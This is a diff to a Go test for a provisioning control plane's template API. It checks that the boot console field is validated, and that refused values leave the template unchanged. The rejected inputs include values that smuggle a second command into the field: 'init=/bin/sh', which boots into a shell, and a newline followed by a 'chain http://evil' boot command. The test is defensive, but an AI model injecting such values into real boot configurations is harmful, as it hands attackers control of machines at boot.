@@ -371,6 +371,35 @@ func TestCatalogCRUD(t *testing.T) {
 	if tpl.RootModules[0].Digest != m.Digest {
 		t.Fatal("template must show the resolved digest")
 	}
+	if tpl.Console != "ttyS0" {
+		t.Fatalf("a template's console is serial unless set: %q", tpl.Console)
+	}
+	for _, tc := range []struct {
+		console string
+		code    codes.Code
+	}{
+		{"ttyS1,115200n8", codes.OK},
+		{"none", codes.OK},
+		{"tty0", codes.OK},
+		{"ttyS0 init=/bin/sh", codes.InvalidArgument},
+		{"ttyS0\nchain http://evil", codes.InvalidArgument},
+		{"/dev/ttyS0", codes.InvalidArgument},
+	} {
+		got, err := cp.Admin.UpdateTemplate(ctx, &v1.UpdateTemplateRequest{Name: "web", UpdateMask: []string{"console"}, Console: tc.console})
+		if tc.code != codes.OK {
+			wantCode(t, err, tc.code)
+			if !strings.Contains(err.Error(), "console") {
+				t.Errorf("refusal of console %q does not name the field: %v", tc.console, err)
+			}
+			continue
+		}
+		if err != nil || got.Console != tc.console {
+			t.Fatalf("console %q: %v %v", tc.console, got.GetConsole(), err)
+		}
+	}
+	if got, err := cp.Admin.GetTemplate(ctx, &v1.GetTemplateRequest{Name: "web"}); err != nil || got.Console != "tty0" {
+		t.Fatalf("a refused console must change nothing: %v %v", got.GetConsole(), err)
+	}
 	_, err = cp.Admin.CreateTemplate(ctx, &v1.CreateTemplateRequest{Name: "web", RootModules: []*v1.ModuleRef{{Name: "base", Version: "1"}}})
 	wantCode(t, err, codes.AlreadyExists)
 	if _, err := cp.Admin.CreateNode(ctx, &v1.CreateNodeRequest{Name: "n1", Template: "web"}); err != nil {
